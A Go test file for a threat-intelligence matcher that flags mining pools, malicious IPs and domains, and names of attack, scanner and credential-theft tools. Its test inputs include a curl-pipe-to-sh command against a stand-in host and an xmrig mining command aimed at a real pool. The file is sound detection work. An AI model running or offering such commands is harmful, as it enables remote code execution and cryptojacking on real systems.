package intel

import (
	"net/netip"
	"slices"
	"strings"
	"testing"
)

// testSet is the shipped data plus test-only entries in documentation
// ranges and reserved names, which the shipped data must never contain.
func testSet(t testing.TB) *Set {
	t.Helper()
	s, err := Load(strings.NewReader(`
[malicious-ips]
192.0.2.1
198.51.100.0/24
2001:db8::1
2001:db8:bad::/48
[malicious-domains]
evil.example
[miner-pools]
pool.mine.example
[attack-tools]
red-team-tool
[miner-ports]
65000
`))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestDefault(t *testing.T) {
	s, err := parseEmbedded(embedded)
	if err != nil {
		t.Fatalf("embedded data: %v", err)
	}
	lists := s.Lists()
	if got, want := slices.Sorted(func(yield func(string) bool) {
		for k := range lists {
			if !yield(k) {
				return
			}
		}
	}), Names(); !slices.Equal(got, want) {
		t.Errorf("Lists() names = %v, Names() = %v", got, want)
	}
	for name, n := range lists {
		if n == 0 {
			t.Errorf("list %s is empty", name)
		}
	}
	if lists["miner-pools"] < 40 {
		t.Errorf("miner-pools has %d entries, want 40 or more", lists["miner-pools"])
	}
	if Default() != Default() {
		t.Error("Default() parses more than once")
	}
}

func TestNamesSorted(t *testing.T) {
	names := Names()
	if !slices.IsSorted(names) || len(names) != numLists {
		t.Errorf("Names() = %v", names)
	}
	names[0] = "changed"
	if Names()[0] == "changed" {
		t.Error("Names() shares its slice")
	}
}

// reserved are ranges no shipped indicator may fall in: an alert on them
// would be noise or would point at the user's own network.
var reserved = []string{
	"0.0.0.0/8", "10.0.0.0/8", "100.64.0.0/10", "127.0.0.0/8", "169.254.0.0/16",
	"172.16.0.0/12", "192.0.0.0/24", "192.0.2.0/24", "192.168.0.0/16", "198.18.0.0/15",
	"198.51.100.0/24", "203.0.113.0/24", "224.0.0.0/4", "240.0.0.0/4",
	"::/8", "64:ff9b::/96", "100::/64", "2001:db8::/32", "3fff::/20", "fc00::/7", "fe80::/10", "ff00::/8",
}

func TestShippedIPsArePublic(t *testing.T) {
	for _, g := range Default().lists[iMaliciousIPs].nets {
		for p := range g.set {
			for _, r := range reserved {
				if p.Overlaps(netip.MustParsePrefix(r)) {
					t.Errorf("malicious-ips entry %s overlaps reserved range %s", p, r)
				}
			}
			if p.Bits() < 16 && p.Addr().Is4() || p.Bits() < 32 && p.Addr().Is6() {
				t.Errorf("malicious-ips entry %s is implausibly wide", p)
			}
		}
	}
}

func TestShippedDomainsAreReal(t *testing.T) {
	s := Default()
	for _, i := range []int{iMinerPools, iOASTDomains, iMaliciousDomains} {
		for d := range s.lists[i].strs {
			for _, bad := range []string{"example", "test", "invalid", "localhost", "local", "internal", "example.com", "example.net", "example.org"} {
				if d == bad || strings.HasSuffix(d, "."+bad) {
					t.Errorf("%s entry %s is under reserved name %s", catalog[i].name, d, bad)
				}
			}
		}
	}
	// The Defender for Cloud test indicator is shipped so users can check
	// their pipeline end to end.
	if !s.MaliciousDomain("mdc-eicar.alerts.security.azure.com") {
		t.Error("the mdc-eicar test indicator is missing")
	}
	if s.MaliciousDomain("security.azure.com") {
		t.Error("a parent of the test indicator matches")
	}
}

func TestDomain(t *testing.T) {
	s := testSet(t)
	tests := []struct {
		list, host string
		want       bool
	}{
		{"miner-pools", "supportxmr.com", true},
		{"miner-pools", "pool.supportxmr.com", true},
		{"miner-pools", "a.b.c.pool.supportxmr.com", true},
		{"miner-pools", "POOL.SupportXMR.COM", true},
		{"miner-pools", "pool.supportxmr.com.", true},
		{"miner-pools", "gulf.moneroocean.stream", true},
		{"miner-pools", "xmr-eu1.nanopool.org", true},
		{"miner-pools", "pool.mine.example", true}, // from the update file
		{"miner-pools", "x.pool.mine.example", true},
		{"miner-pools", "mine.example", false}, // parent of an entry
		{"miner-pools", "notsupportxmr.com", false},
		{"miner-pools", "supportxmr.com.evil.example", false},
		{"miner-pools", "supportxmr", false},
		{"miner-pools", "com", false},
		{"miner-pools", "supportxmr.com:3333", false}, // hosts come without ports
		{"miner-pools", "supportxmr.com..", false},
		{"miner-pools", ".supportxmr.com", true}, // empty first label, still under the entry
		{"miner-pools", "", false},
		{"miner-pools", ".", false},
		{"miner-pools", "1.2.3.4", false},
		{"miner-pools", "::1", false},
		{"miner-pools", strings.Repeat("a.", 200) + "supportxmr.com", true}, // longer than DNS allows
		{"miner-pools", strings.Repeat("a", 300) + ".supportxmr.com", true},
		{"miner-pools", strings.Repeat("A", 300) + "supportxmr.com", false},
		{"miner-pools", strings.Repeat("A.", 300) + "SUPPORTXMR.COM", true},
		{"oast-domains", "abc123.oast.fun", true},
		{"oast-domains", "x.burpcollaborator.net", true},
		{"oast-domains", "c5kq.interact.sh", true},
		{"oast-domains", "supportxmr.com", false},
		{"malicious-domains", "mdc-eicar.alerts.security.azure.com", true},
		{"malicious-domains", "evil.example", true},
		{"malicious-domains", "EVIL.example.", true},
		{"malicious-domains", "alerts.security.azure.com", false},
		{"miner-binaries", "xmrig", false}, // not a domain list
		{"no-such-list", "supportxmr.com", false},
	}
	for _, tt := range tests {
		if got := s.Domain(tt.list, tt.host); got != tt.want {
			t.Errorf("Domain(%q, %q) = %v, want %v", tt.list, tt.host, got, tt.want)
		}
	}
	// The per-list methods agree with Domain.
	for _, tt := range tests {
		var got bool
		switch tt.list {
		case "miner-pools":
			got = s.MinerPool(tt.host)
		case "oast-domains":
			got = s.OASTDomain(tt.host)
		case "malicious-domains":
			got = s.MaliciousDomain(tt.host)
		default:
			continue
		}
		if got != tt.want {
			t.Errorf("%s method on %q = %v, want %v", tt.list, tt.host, got, tt.want)
		}
	}
}

func TestTool(t *testing.T) {
	s := testSet(t)
	tests := []struct {
		list, name string
		want       bool
	}{
		{"miner-binaries", "xmrig", true},
		{"miner-binaries", "XMRig", true},
		{"miner-binaries", "/tmp/.x/xmrig", true},
		{"miner-binaries", "/tmp/xmrig/", false}, // a directory
		{"miner-binaries", "xmrig.sh", false},
		{"miner-binaries", "kdevtmpfsi", true},
		{"miner-binaries", "t-rex", true},
		{"miner-binaries", "bash", false},
		{"miner-binaries", "", false},
		{"attack-tools", "linpeas.sh", true},
		{"attack-tools", "kube-hunter", true},
		{"attack-tools", "Peirates", true},
		{"attack-tools", "red-team-tool", true}, // from the update file
		{"attack-tools", "nmap", false},         // a scanner, not in attack-tools
		{"scanners", "nmap", true},
		{"scanners", "masscan", true},
		{"scanners", "nc", false},
		{"scanners", "ncat", false},
		{"credential-tools", "hashcat", true},
		{"credential-tools", "mimipenguin.sh", true},
		{"ddos-tools", "hping3", true},
		{"proxyware", "pawns-cli", true},
		{"proxyware", "honeygain", true},
		{"miner-pools", "supportxmr.com", false}, // not a name list
		{"no-such-list", "xmrig", false},
		{"miner-binaries", strings.Repeat("x", 300), false},
		{"miner-binaries", strings.Repeat("X", 300), false},
	}
	for _, tt := range tests {
		if got := s.Tool(tt.list, tt.name); got != tt.want {
			t.Errorf("Tool(%q, %q) = %v, want %v", tt.list, tt.name, got, tt.want)
		}
	}
	methods := map[string]func(string) bool{
		"miner-binaries":   s.MinerBinary,
		"attack-tools":     s.AttackTool,
		"scanners":         s.Scanner,
		"credential-tools": s.CredentialTool,
		"ddos-tools":       s.DDoSTool,
		"proxyware":        s.Proxyware,
	}
	for _, tt := range tests {
		if f, ok := methods[tt.list]; ok && f(tt.name) != tt.want {
			t.Errorf("%s method on %q = %v, want %v", tt.list, tt.name, !tt.want, tt.want)
		}
	}
}

func TestMinerPort(t *testing.T) {
	s := testSet(t)
	for port, want := range map[int]bool{
		3333: true, 14444: true, 45700: true, 10128: true, 65000: true,
		80: false, 443: false, 22: false, 0: false, -3333: false, 65536: false, 3333 + 65536: false,
	} {
		if got := s.MinerPort(port); got != want {
			t.Errorf("MinerPort(%d) = %v, want %v", port, got, want)
		}
	}
}

func TestMaliciousIP(t *testing.T) {
	s := testSet(t)
	tests := []struct {
		ip   string
		want bool
	}{
		{"192.0.2.1", true},
		{"192.0.2.2", false},
		{"198.51.100.0", true},
		{"198.51.100.77", true},
		{"198.51.100.255", true},
		{"198.51.101.0", false},
		{"::ffff:192.0.2.1", true}, // IPv4-mapped
		{"::ffff:198.51.100.9", true},
		{"2001:db8::1", true},
		{"2001:DB8:0:0:0:0:0:1", true},
		{"2001:db8::2", false},
		{"2001:db8:bad::1", true},
		{"2001:db8:bad:ffff:ffff:ffff:ffff:ffff", true},
		{"2001:db8:bae::1", false},
		{"fe80::1%eth0", false},
		{"2001:db8::1%eth0", true}, // the zone is ignored
		{"195.3.146.118", true},    // shipped
		{"", false},
		{"not an ip", false},
		{"192.0.2.1:80", false},
		{"192.0.2.1/32", false},
		{"[2001:db8::1]", false},
		{"999.1.1.1", false},
	}
	for _, tt := range tests {
		if got := s.MaliciousIP(tt.ip); got != tt.want {
			t.Errorf("MaliciousIP(%q) = %v, want %v", tt.ip, got, tt.want)
		}
	}
}

func TestLookupsDoNotAllocate(t *testing.T) {
	s := testSet(t)
	long := strings.Repeat("A.", 300) + "SUPPORTXMR.COM"
	lookups := map[string]func(){
		"MinerPool":            func() { s.MinerPool("xmr-eu1.nanopool.org") },
		"MinerPool/upper":      func() { s.MinerPool("XMR-EU1.NanoPool.ORG.") },
		"MinerPool/miss":       func() { s.MinerPool("api.github.com") },
		"MinerPool/long":       func() { s.MinerPool(long) },
		"MaliciousDomain":      func() { s.MaliciousDomain("Evil.Example") },
		"MinerPort":            func() { s.MinerPort(3333) },
		"MinerBinary":          func() { s.MinerBinary("/usr/bin/XMRig") },
		"Tool":                 func() { s.Tool("scanners", "Nmap") },
		"MaliciousIP/v4":       func() { s.MaliciousIP("198.51.100.7") },
		"MaliciousIP/v6":       func() { s.MaliciousIP("2001:db8:bad::1") },
		"MaliciousIP/mapped":   func() { s.MaliciousIP("::ffff:192.0.2.1") },
		"MaliciousIP/hostname": func() { s.MaliciousIP("kubernetes.default") },
		"FindDomain":           func() { s.FindDomain("miner-pools", "./xmrig -o stratum+tcp://POOL.supportxmr.com:3333 -u 4A --tls") },
		"FindDomain/miss":      func() { s.FindDomain("miner-pools", "curl -fsSL https://get.helm.sh/helm-v3.14.0-linux-amd64.tar.gz") },
		"FindIP":               func() { s.FindIP("curl http://198.51.100.7:8080/x.sh | sh") },
		"FindIP/miss":          func() { s.FindIP("sleep 3600; date 12:30:00; echo 1.2.3") },
		"ScanText":             func() { s.ScanText("./xmrig -o POOL.supportxmr.com:3333 --url http://198.51.100.7/ x.oast.fun") },
		"ScanText/miss":        func() { s.ScanText("java -jar /app/service.jar --db=jdbc:postgresql://db.prod.svc:5432/x 10.0.0.1") },
	}
	for name, f := range lookups {
		if n := testing.AllocsPerRun(100, f); n != 0 {
			t.Errorf("%s allocates %v times per call", name, n)
		}
	}
}

func TestConcurrentUse(t *testing.T) {
	s := testSet(t)
	done := make(chan bool)
	for range 8 {
		go func() {
			ok := true
			for range 1000 {
				ok = ok && s.MinerPool("pool.supportxmr.com") && s.MaliciousIP("192.0.2.1") && !s.Scanner("bash")
			}
			done <- ok
		}()
	}
	for range 8 {
		if !<-done {
			t.Error("concurrent lookups disagreed")
		}
	}
}

func TestZeroSet(t *testing.T) {
	var s Set
	if s.MinerPool("supportxmr.com") || s.MaliciousIP("195.3.146.118") || s.MinerPort(3333) || s.AttackTool("linpeas") {
		t.Error("the zero Set matched")
	}
	n, err := s.with("", strings.NewReader("[scanners]\nnmap\n"))
	if err != nil || !n.Scanner("nmap") || n.MinerPool("supportxmr.com") {
		t.Errorf("updating the zero Set: %v", err)
	}
}
